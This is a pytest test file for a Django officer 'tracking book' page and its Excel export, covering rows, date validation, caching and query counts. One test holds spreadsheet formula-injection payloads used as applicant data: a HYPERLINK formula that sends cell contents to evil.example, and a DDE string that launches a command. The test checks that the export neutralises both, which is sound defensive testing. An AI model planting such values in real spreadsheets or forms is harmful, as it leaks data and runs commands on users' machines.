"""The tracking book (Mẫu 07) for a period, on screen and as an Excel file."""

from __future__ import annotations

import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from applications.models import Status
from tests.applications.officer.conftest import drive, new_draft

VN = ZoneInfo("Asia/Ho_Chi_Minh")


def _make(cast, version, commune, citizen, day, state):
    with time_machine.travel(datetime(2026, 3, day, 9, tzinfo=VN), tick=False):
        return drive(new_draft(version, commune, citizen), state, cast)


def test_the_excel_export_opens_and_has_one_row_per_received_dossier(login, officer, cast, version, commune,
                                                                      citizen):
    first = _make(cast, version, commune, citizen, 2, Status.RETURNED)
    second = _make(cast, version, commune, citizen, 3, Status.PROCESSING)
    outside = _make(cast, version, commune, citizen, 20, Status.RECEIVED)
    never_received = _make(cast, version, commune, citizen, 4, Status.REFUSED)

    response = login(officer).get("/officer/tracking-book/export/", {"from": "2026-03-01", "to": "2026-03-10"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "so-theo-doi-ho-so-20260301-20260310.xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[1][0] == "SỔ THEO DÕI HỒ SƠ"
    header = values[4]
    assert header[:3] == ["STT", "Mã hồ sơ", "Tên thủ tục hành chính"]
    rows = values[5:]
    assert [row[1] for row in rows] == [first.code, second.code]
    assert rows[0][0] == 1 and rows[0][8] == "09:00 02/03/2026"
    assert rows[0][10] == "02/03/2026"  # transferred the same day
    assert rows[0][12]  # returned
    assert "Đã trả kết quả" in rows[0][14]
    assert outside.code not in str(values) and never_received.code not in str(values)


def test_the_page_shows_the_period_and_defaults_to_this_month(login, officer, cast, version, commune, citizen):
    with time_machine.travel(datetime(2026, 3, 12, 9, tzinfo=VN), tick=False):
        dossier = drive(new_draft(version, commune, citizen), Status.RECEIVED, cast)
        html = login(officer).get("/officer/tracking-book/").content.decode()
    assert "Từ ngày 01/03/2026 đến ngày 12/03/2026: 1 hồ sơ." in html
    assert dossier.code in html


# --- Formula injection, malformed query strings, caching ------------------------------------------

INJECTED_NAME = '=HYPERLINK("http://evil.example/?"&B6,"Xem hồ sơ")'
INJECTED_ADDRESS = "+cmd|' /C calc'!A0"


def test_an_applicant_named_like_a_formula_is_exported_as_text(login, officer, cast, version, commune, citizen):
    dossier = _make(cast, version, commune, citizen, 2, Status.RECEIVED)
    type(dossier).objects.filter(pk=dossier.pk).update(
        applicant_name=INJECTED_NAME, applicant_address=INJECTED_ADDRESS, applicant_phone="@0912000001")

    response = login(officer).get("/officer/tracking-book/export/", {"from": "2026-03-01", "to": "2026-03-10"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(line for line in sheet.iter_rows(min_row=6) if line[1].value == dossier.code)
    name, address, phone = row[4], row[5], row[6]
    assert (name.value, address.value, phone.value) == (INJECTED_NAME, INJECTED_ADDRESS, "@0912000001")
    assert name.data_type == address.data_type == phone.data_type == "s"  # text, not a formula ("f")
    assert name.quotePrefix and address.quotePrefix


@pytest.mark.parametrize("url", ["/officer/tracking-book/", "/officer/tracking-book/export/"])
@pytest.mark.parametrize(("query", "message"), [
    ({"from": "0001-01-01"}, "Ngày phải trong khoảng"),
    ({"to": "9999-12-31"}, "Ngày phải trong khoảng"),
    ({"from": "hôm qua"}, "Ngày không hợp lệ"),
    ({"from": "2026-02-30"}, "Ngày không hợp lệ"),
    ({"format": "pdf"}, "Định dạng xuất không hợp lệ"),
])
def test_a_malformed_query_string_is_a_clear_400(login, officer, url, query, message):
    response = login(officer).get(url, query)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()


@pytest.mark.parametrize("url", ["/officer/tracking-book/", "/officer/tracking-book/export/"])
def test_the_book_and_its_export_are_never_cached(login, officer, url):
    response = login(officer).get(url, {"from": "2026-03-01", "to": "2026-03-10"})

    assert response.status_code == 200
    directives = {part.strip() for part in response["Cache-Control"].split(",")}
    assert {"no-store", "private"} <= directives


def test_the_page_stays_within_its_query_budget(login, officer, cast, version, commune, citizen,
                                                django_assert_max_num_queries):
    for day in (2, 3, 4, 5):
        _make(cast, version, commune, citizen, day, Status.PROCESSING)
    client = login(officer)

    with django_assert_max_num_queries(8):
        response = client.get("/officer/tracking-book/", {"from": "2026-03-01", "to": "2026-03-10"})

    assert len(response.context["rows"]) == 4
